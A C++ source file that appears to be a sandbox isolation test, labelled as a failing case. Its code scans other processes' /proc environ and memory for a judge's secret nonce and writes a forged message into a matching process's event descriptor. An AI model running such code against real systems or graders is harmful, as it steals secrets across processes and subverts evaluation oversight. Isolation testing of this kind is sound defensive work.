// Mistake: it searches the memory of all others for the nonce, to use it
// Fails: 00.1
// Says: root is still the machine

#include <fcntl.h>
#include <fmt/format.h>
#include <unistd.h>

#include <cstdint>
#include <fstream>
#include <sstream>
#include <string>

// "nonce":"0123..., as it is in each event, and in the judge's environment.
const std::string kMarks[] = {"\"nonce\":\"", "JUDGE_NONCE="};

bool has_nonce(const std::string& bytes) {
  for (const auto& mark : kMarks) {
    for (auto at = bytes.find(mark); at != bytes.npos;
         at = bytes.find(mark, at + 1)) {
      const auto digits =
          bytes.find_first_not_of("0123456789abcdef", at + mark.size());
      if (digits != bytes.npos && digits - at - mark.size() == 32) return true;
    }
  }
  return false;
}

std::string content(const std::string& path) {
  std::ifstream file(path);
  std::ostringstream text;
  text << file.rdbuf();
  return text.str();
}

bool is_in_memory(pid_t pid) {
  const int memory =
      ::open(fmt::format("/proc/{}/mem", pid).c_str(), O_RDONLY | O_CLOEXEC);
  if (memory == -1) return false;
  bool found = false;
  std::istringstream maps(content(fmt::format("/proc/{}/maps", pid)));
  for (std::string line; std::getline(maps, line);) {
    std::uint64_t begin = 0;
    std::uint64_t end = 0;
    char dash = 0;
    std::istringstream(line) >> std::hex >> begin >> dash >> end;
    if (line.find("rw") == line.npos) continue;
    std::string bytes(end - begin, '\0');
    const auto size =
        ::pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(begin));
    if (size > 0 && has_nonce(bytes)) found = true;
  }
  ::close(memory);
  return found;
}

// Who knows the nonce could tell any story. This one breaks it, to be seen.
void use(pid_t pid) {
  const int events =
      ::open(fmt::format("/proc/{}/fd/3", pid).c_str(), O_WRONLY | O_CLOEXEC);
  constexpr std::string_view kText = "the nonce was found\n";
  (void)!::write(events, kText.data(), kText.size());
}

void attack(const std::string&) {
  for (pid_t pid = 1; pid < ::getpid(); ++pid) {
    if (has_nonce(content(fmt::format("/proc/{}/environ", pid))) ||
        is_in_memory(pid)) {
      use(pid);
    }
  }
}
